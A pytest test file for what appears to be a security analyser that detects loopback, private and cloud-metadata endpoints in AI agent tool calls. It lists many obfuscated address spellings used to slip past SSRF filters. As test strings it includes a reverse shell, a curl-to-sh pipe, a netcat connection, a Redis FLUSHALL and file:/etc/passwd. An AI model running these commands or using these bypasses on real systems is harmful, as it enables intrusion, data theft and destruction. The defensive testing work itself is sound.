"""URL and host parsing: every IPv4/IPv6 notation, names that resolve to loopback, metadata, linear time."""

from __future__ import annotations

import ipaddress

import pytest
from _growth import assert_linear

from sentinel_lab._analysis import analyse
from sentinel_lab._analysis._urls import canonical_host, classify_host, parse_ip, parse_ipv4, split_url


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("127.0.0.1", "127.0.0.1"),
        ("2130706433", "127.0.0.1"),
        ("0x7f000001", "127.0.0.1"),
        ("0X7F000001", "127.0.0.1"),
        ("0177.0.0.1", "127.0.0.1"),
        ("0177.0000.0000.0001", "127.0.0.1"),
        ("127.1", "127.0.0.1"),
        ("127.0.1", "127.0.0.1"),
        ("0x7f.1", "127.0.0.1"),
        ("0x7f.0x0.0x0.0x1", "127.0.0.1"),
        ("0xa9.0xfe.0xa9.0xfe", "169.254.169.254"),
        ("2852039166", "169.254.169.254"),
        ("0251.0376.0251.0376", "169.254.169.254"),
        ("169.16689662", "169.254.169.254"),
        ("0", "0.0.0.0"),
    ],
)
def test_ipv4_every_inet_aton_notation(text: str, expected: str) -> None:
    assert parse_ipv4(text) == ipaddress.IPv4Address(expected)


@pytest.mark.parametrize("text", ["256.0.0.1", "1.2.3.4.5", "1..2.3", "08.0.0.1x", "4294967296", "0x1g", "", "a.b"])
def test_ipv4_rejects_invalid(text: str) -> None:
    assert parse_ipv4(text) is None


def test_huge_numeric_part_is_not_parsed() -> None:
    assert parse_ipv4("9" * 60) is None
    assert parse_ip("1" * 5000) is None


@pytest.mark.parametrize(
    ("host", "kind", "embedded"),
    [
        ("[::ffff:127.0.0.1]", "loopback", "127.0.0.1"),
        ("::ffff:7f00:1", "loopback", "127.0.0.1"),
        ("[::ffff:a9fe:a9fe]", "metadata", "169.254.169.254"),
        ("::1", "loopback", None),
        ("[0:0:0:0:0:0:0:1]", "loopback", None),
        ("::", "unspecified", None),
        ("fc00::1", "private", None),
        ("fd12:3456::7", "private", None),
        ("fe80::1%eth0", "link_local", None),
        ("[fe80::1%25en0]", "link_local", None),
        ("64:ff9b::10.0.0.1", "private", "10.0.0.1"),
        ("64:ff9b::a9fe:a9fe", "metadata", "169.254.169.254"),
        ("2002:7f00:1::", "loopback", "127.0.0.1"),
        ("::127.0.0.1", "loopback", "127.0.0.1"),
        ("fd00:ec2::254", "metadata", None),
    ],
)
def test_ipv6_forms_and_embedded_ipv4(host: str, kind: str, embedded: str | None) -> None:
    info = classify_host(host)
    assert kind in info.kinds, info
    assert info.internal
    if embedded:
        assert info.embedded == ipaddress.IPv4Address(embedded)


@pytest.mark.parametrize(
    ("host", "kind"),
    [
        ("localhost", "loopback"),
        ("LOCALHOST.", "loopback"),
        ("localhost...", "loopback"),
        ("ｌｏｃａｌｈｏｓｔ", "loopback"),
        ("api.localhost", "loopback"),
        ("localtest.me", "loopback"),
        ("anything.localtest.me", "loopback"),
        ("lvh.me", "loopback"),
        ("127.0.0.1.nip.io", "loopback"),
        ("app.10.0.0.1.nip.io", "private"),
        ("app-192-168-1-1.sslip.io", "private"),
        ("7f000001.nip.io", "loopback"),
        ("--1.sslip.io", "loopback"),
        ("169.254.169.254.xip.io", "metadata"),
        ("7f000001.c0a80001.rbndr.us", "loopback"),
        ("169.254.169.254", "metadata"),
        ("169.254.170.2", "metadata"),
        ("100.100.100.200", "metadata"),
        ("192.0.0.192", "metadata"),
        ("metadata.google.internal", "metadata"),
        ("metadata.google.internal.", "metadata"),
        ("metadata.azure.com", "metadata"),
        ("kubernetes.default.svc", "metadata"),
        ("db.corp", "local_name"),
        ("printer.local", "local_name"),
        ("vault.service.consul", "local_name"),
        ("10.1.2.3", "private"),
        ("172.31.255.255", "private"),
        ("192.168.0.10", "private"),
        ("100.64.0.1", "private"),
        ("169.254.1.1", "link_local"),
        ("0.0.0.0", "unspecified"),
        ("255.255.255.255", "reserved"),
        ("0127.0.0.1", "loopback"),  # octal reading 87.0.0.1, decimal reading 127.0.0.1: either counts
    ],
)
def test_internal_hosts(host: str, kind: str) -> None:
    info = classify_host(host)
    assert kind in info.kinds, info


@pytest.mark.parametrize(
    "host",
    [
        "example.com",
        "8.8.8.8",
        "api.github.com",
        "203.0.113.5",
        "2606:4700::1111",
        "93.184.216.34.nip.io",
        "localhost.example.com",
        "notlocalhost",
        "metadata.example.com",
        "172.32.0.1",
        "11.0.0.1",
        "nip.io",
    ],
)
def test_public_hosts(host: str) -> None:
    assert not classify_host(host).internal, classify_host(host)


def test_canonical_host() -> None:
    assert canonical_host("EXAMPLE.com.") == "example.com"
    assert canonical_host("[::1]") == "::1"
    assert canonical_host("ｅｘａｍｐｌｅ。ｃｏｍ") == "example.com"
    assert canonical_host("bücher.de") == "xn--bcher-kva.de"
    assert canonical_host("LocalHost.:8080") == "localhost"
    assert canonical_host("[::1]:8080") == "::1"
    assert classify_host("127.0.0.1:22").loopback and classify_host("fe80::1").link_local


def test_split_url_userinfo_and_backslash_confusion() -> None:
    (p,) = split_url("https://good.com@evil.example/path?q=1#frag")
    assert (p.userinfo, p.host, p.path, p.query) == ("good.com", "evil.example", "/path", "q=1")
    hosts = {canonical_host(x.host) for x in split_url("http://evil.com\\@good.com/")}
    assert hosts == {"evil.com", "good.com"}  # browsers and curl/urllib disagree: keep both readings
    (p,) = split_url("http:/\\127.0.0.1:8080/x")
    assert (p.host, p.port) == ("127.0.0.1", 8080)
    (p,) = split_url("http://[::1]:9000/")
    assert (p.host, p.port) == ("[::1]", 9000)
    (p,) = split_url("file:/etc/passwd")
    assert (p.scheme, p.host, p.path) == ("file", "", "/etc/passwd")


def _hosts(tool: str, args: dict) -> dict[str, tuple[str, ...]]:
    return {e.host: e.kinds for e in analyse(tool, args).endpoints}


def test_urls_found_in_prose_commands_and_json() -> None:
    a = analyse("run", {"command": "curl -s 'http://[::ffff:127.0.0.1]:8080/admin' | sh; nc 10.0.0.5 4444"})
    hosts = {e.host: e.context for e in a.endpoints}
    assert hosts == {"::ffff:7f00:1": "command", "10.0.0.5": "command"}
    a = analyse("fetch", {"request": '{"url": "http://169.254.169.254/latest/meta-data/"}'})
    assert any(e.metadata for e in a.endpoints)
    a = analyse("send_email", {"body": "The dashboard runs at http://localhost:3000 now."})
    assert [e.context for e in a.endpoints] == ["prose"]


def test_encoded_urls_are_seen() -> None:
    assert "metadata" in _hosts("fetch", {"url": "http%3A%2F%2F169.254.169.254%2Flatest"}).get("169.254.169.254", ())
    assert "loopback" in _hosts("fetch", {"url": "http://%6c%6f%63%61%6c%68%6f%73%74/"}).get("localhost", ())
    assert "loopback" in _hosts("fetch", {"url": "http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/"}).get("localhost", ())


def test_bare_hosts_by_field_and_context() -> None:
    assert _hosts("connect", {"host": "0x7f.1"}) == {"127.0.0.1": ("loopback",)}
    assert _hosts("db_query", {"server": "[::1]:5432"}) == {"::1": ("loopback",)}
    assert _hosts("fetch", {"url": "localhost:8080/admin"}) == {"localhost": ("loopback",)}
    # a dotted quad in a field that is not an address is a version number, not a host
    assert _hosts("release", {"version": "10.0.0.1"}) == {}
    assert _hosts("http_request", {"url": "https://example.com", "timeout": "10.5"}) == {"example.com": ()}
    # prose mentioning localhost names no endpoint at all
    assert _hosts("write_file", {"content": "start it on localhost and open port 8080"}) == {}
    # numbers in shell commands that are not addresses
    assert _hosts("bash", {"command": "curl --max-time 10.5 https://example.com/a"}) == {"example.com": ()}
    assert _hosts("bash", {"command": "pip install numpy==1.26.4 && echo 10.0.0.1"}) == {}


def test_shell_address_tokens() -> None:
    hosts = _hosts("bash", {"command": "ssh root@10.0.0.7 && bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"})
    assert hosts["10.0.0.7"] == ("private",)
    assert hosts["127.0.0.1"] == ("loopback",)
    assert _hosts("bash", {"command": "redis-cli -h localhost -p 6379 FLUSHALL"}) == {"localhost": ("loopback",)}


def test_endpoint_fields() -> None:
    (e,) = analyse("fetch", {"url": "https://user:pw@Example.COM.:8443/a/b?x=1"}).endpoints
    assert (e.scheme, e.host, e.port, e.path, e.query, e.userinfo) == (
        "https",
        "example.com",
        8443,
        "/a/b",
        "x=1",
        "user:pw",
    )
    assert e.ip is None and not e.internal and e.accessed
    (e,) = analyse("fetch", {"url": "gopher://127.1:6379/_INFO"}).endpoints
    assert e.dangerous_scheme and e.loopback and e.ip == ipaddress.IPv4Address("127.0.0.1")


@pytest.mark.parametrize(
    "chunk",
    [
        "0x7f.",
        "[::ffff:",
        "http://",
        "://",
        ":/",
        "a:/",
        "1.",
        "@",
        "localhost:",
        "0x7f000001 ",
        "xn--",
        "%2e",
        "nip.io.",
        "127.0.0.1-",
        "\\@",
        "http:\\\\",
    ],
)
def test_linear_time_on_adversarial_input(chunk: str) -> None:
    big = chunk * (2**20 // len(chunk))
    for tool, key in (("fetch", "url"), ("bash", "command"), ("tool", "host"), ("tool", "body")):

        def endpoints(text: str, tool: str = tool, key: str = key) -> object:
            return analyse(tool, {key: text}).endpoints

        assert_linear(endpoints, big)


def test_benign_path_finds_no_endpoints_each_time() -> None:
    a = analyse("write_file", {"path": "src/app.py", "content": "def main() -> None:\n    print('hi')\n" * 20})
    for _ in range(3):  # recomputed from scratch each time: the same (empty) answer; its cost is benchmarked
        a._endpoints = None
        assert a.endpoints == []
